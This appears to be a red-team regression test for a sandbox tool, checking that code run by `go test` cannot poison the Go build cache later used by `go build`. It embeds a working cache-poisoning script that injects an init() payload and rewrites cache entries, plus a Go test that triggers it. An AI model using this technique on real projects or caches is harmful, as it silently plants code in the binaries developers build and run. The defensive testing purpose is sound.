"""Red team 15: code run by `go test` poisons the build cache the next `go build` links from.

Go trusts its build cache: an entry's archive is taken if its build ID and size match. sbox kept
one cache per project, writable in every go step. A test-only dependency's code (here the test
itself) rebuilt the project's package with a payload in a scratch cache and rewrote the real
cache's entries to point at the payload's archive; the developer's next `go build` through sbox
linked it, and the binary the host then ran wrote a marker. `go test`, `go run` and `go generate`
now get a cache of their own that `go build` and `go install` never read.
"""
from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from support.boundary import config
from support.golang import app, direct, go_env, through_sbox
from support.golang import ran as _ran

pytestmark = pytest.mark.skipif(not (shutil.which("go") and shutil.which("python3")),
                                reason="go and python3 are not installed")

# What the hostile test runs (network off, the project read-only): the package again with an init()
# payload, built in a scratch cache; then each real cache entry for it pointed at that archive.
POISON = r"""set -e
W=$(mktemp -d)
cp -r . "$W/mod"
cat > "$W/mod/greet/zz_payload.go" <<'G'
package greet

import "os"

func init() { os.WriteFile("MARKER", []byte("poisoned build cache ran on the host\n"), 0o644) }
G
for p in $(go list -deps -f '{{if not .Standard}}{{.ImportPath}}{{end}}' .); do
  O=$(go list -export -f '{{.Export}}' $p)
  N=$(cd "$W/mod" && GOCACHE="$W/c2" go list -export -f '{{.Export}}' $p)
  echo "$O $(go tool buildid "$O") $N $(cd "$W/mod" && GOCACHE="$W/c2" go tool buildid "$N")" >> "$W/list"
done
python3 - "$(go env GOCACHE)" "$W/list" <<'PY'
import glob, hashlib, os, sys, time
cache, listed = sys.argv[1:]
rows = [line.split() for line in open(listed) if line.strip()]
ids = [(r[3].encode(), r[1].encode()) for r in rows]
entries = glob.glob(os.path.join(cache, "*", "*-a"))
for orig, _, new, _ in rows:
    data = open(new, "rb").read()
    for a, b in ids:
        data = data.replace(a, b)
    digest = hashlib.sha256(data).hexdigest()
    out_id = os.path.basename(orig)[:-2]
    os.makedirs(os.path.join(cache, digest[:2]), exist_ok=True)
    open(os.path.join(cache, digest[:2], digest + "-d"), "wb").write(data)
    for a in entries:
        t = open(a).read().split()
        if len(t) >= 5 and t[2] == out_id:
            open(a, "w").write("v1 %s %s %20d %20d\n" % (t[1], digest, len(data), time.time_ns()))
            print("poisoned", a)
PY
"""

TEST = """package greet

import (
\t"os"
\t"os/exec"
\t"path/filepath"
\t"testing"
)

// stands in for a hostile test-only dependency's init()
func TestHello(t *testing.T) {
\troot, _ := filepath.Abs("..")
\tc := exec.Command("sh", "greet/testdata/poison.sh")
\tc.Dir, c.Stdout, c.Stderr = root, os.Stderr, os.Stderr
\t_ = c.Run()
\tif Hello() == "" {
\t\tt.Fatal("empty")
\t}
}
"""


def _module(root: Path, marker: Path) -> None:
    (root / "greet" / "testdata").mkdir(parents=True)
    (root / "go.mod").write_text("module example.test/g\n\ngo 1.19\n")
    (root / "greet" / "greet.go").write_text('package greet\n\nfunc Hello() string { return "hello" }\n')
    (root / "main.go").write_text('package main\n\nimport (\n\t"fmt"\n\n\t"example.test/g/greet"\n)\n\n'
                                  'func main() { fmt.Println(greet.Hello()) }\n')
    (root / "greet" / "testdata" / "poison.sh").write_text(POISON.replace("MARKER", str(marker)))
    (root / "greet" / "greet_test.go").write_text(TEST)


def _go_env(home: Path) -> dict[str, str]:
    return go_env(home, GOFLAGS="-mod=mod")


def test_the_control_a_test_poisons_the_next_build_when_they_share_the_cache(tmp_path: Path) -> None:
    """Without sbox, with one GOCACHE for both (as sbox had it): the host runs the payload."""
    project, marker = tmp_path / "p", tmp_path / "pwned"
    _module(project, marker)
    env = dict(_go_env(tmp_path), GOCACHE=str(tmp_path / "cache"))
    go = direct(project, env)
    go("build", "-o", "app", ".")
    go("test", "./...")
    (project / "app").unlink()  # else go keeps it: its build ID still matches
    go("build", "-o", "app", ".")
    app(project)
    assert marker.exists()


def test_go_test_cannot_poison_what_go_build_links(tmp_path: Path, sbox_bin: str, backend: str) -> None:
    project, marker = tmp_path / "p", tmp_path / "pwned"
    _module(project, marker)
    config(project, backend)
    env = _go_env(tmp_path)
    sbox = through_sbox(sbox_bin, project, env)
    _ran(sbox("build", "-o", "app", "."))  # the cache holds the real archive
    tested = sbox("test", "-v", "./...")
    _ran(tested)
    assert "poisoned " in tested.stdout + tested.stderr  # the attack ran, on the cache it was given
    (project / "app").unlink()
    _ran(sbox("build", "-o", "app", "."))  # the developer's next build
    assert app(project) == "hello\n"
    assert not marker.exists(), marker.read_text()
